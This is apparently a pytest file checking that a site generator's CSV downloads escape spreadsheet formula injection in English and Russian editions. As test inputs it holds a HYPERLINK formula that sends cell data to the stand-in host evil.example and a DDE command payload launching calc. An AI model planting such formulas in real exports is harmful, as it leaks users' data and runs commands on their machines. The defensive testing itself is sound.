"""CSV downloads opened in a spreadsheet: a cell that would run as a formula is published as text
(OWASP's rule: a leading apostrophe), in every language; a plain negative number stays a number."""

from __future__ import annotations

import csv
import io
import json

from conftest import edit, run
from test_languages import bilingual  # noqa: F401  (the fixture site with a Russian edition)

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
COMMAND = "+cmd|' /C calc'!A0"


def cells(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text())))


def test_formulas_from_data_labels_and_notes_are_published_as_text(bilingual):  # noqa: F811
    site = bilingual
    data = io.StringIO()
    csv.writer(data).writerows(
        [["date", "rise"], [HYPERLINK, 900], [COMMAND, -3.5], ["@SUM(1+1)", 1090], ["-2023", 1], ["\tTAB", 2]]
    )
    (site / "content/data/rises.csv").write_text(data.getvalue())
    edit(
        site / "content/facts/main.yaml",
        "label: Total claimed",
        f"label: {json.dumps(COMMAND)}\n    note: {json.dumps(HYPERLINK)}",
    )
    edit(
        site / "content/facts/main.ru.yaml",
        "label: Всего по заявлению,",
        f"label: {json.dumps(COMMAND)}, note: {json.dumps('-' + HYPERLINK)},",
    )
    assert run("build", "--site", str(site), "--quiet") == 0
    out = site / "_site"
    for prefix, note in (("", HYPERLINK), ("ru/", "-" + HYPERLINK)):
        table = cells(out / prefix / "charts/rises.csv")
        assert table[1 : table.index([])] == [
            [f"'{HYPERLINK}", "900"],
            [f"'{COMMAND}", "-3.5"],
            ["'@SUM(1+1)", "1090"],
            ["-2023", "1"],
            ["'\tTAB", "2"],
        ]
        header, *rows = cells(out / prefix / "facts.csv")
        total = next(row for row in rows if row[0] == "total")
        assert total[header.index("label")] == f"'{COMMAND}"
        assert total[header.index("note")] == f"'{note}"


def test_a_source_note_cannot_run_as_a_formula(bilingual):  # noqa: F811
    """A publisher's name is content too: the CSV's source note starts every line with "#"."""
    edit(bilingual / "content/facts/main.yaml", "publisher: Example Agency", f"publisher: {json.dumps(HYPERLINK)}")
    assert run("build", "--site", str(bilingual), "--quiet") == 0
    for prefix in ("", "ru/"):
        table = cells(bilingual / "_site" / prefix / "charts/rises.csv")
        note = table[table.index([]) + 1 :]
        assert note and all(len(row) == 1 and row[0].startswith("# ") for row in note), note
        assert any(HYPERLINK in row[0] for row in note)
        assert note[0][0].startswith("# Источник:" if prefix else "# Source:"), "in the chart's language"
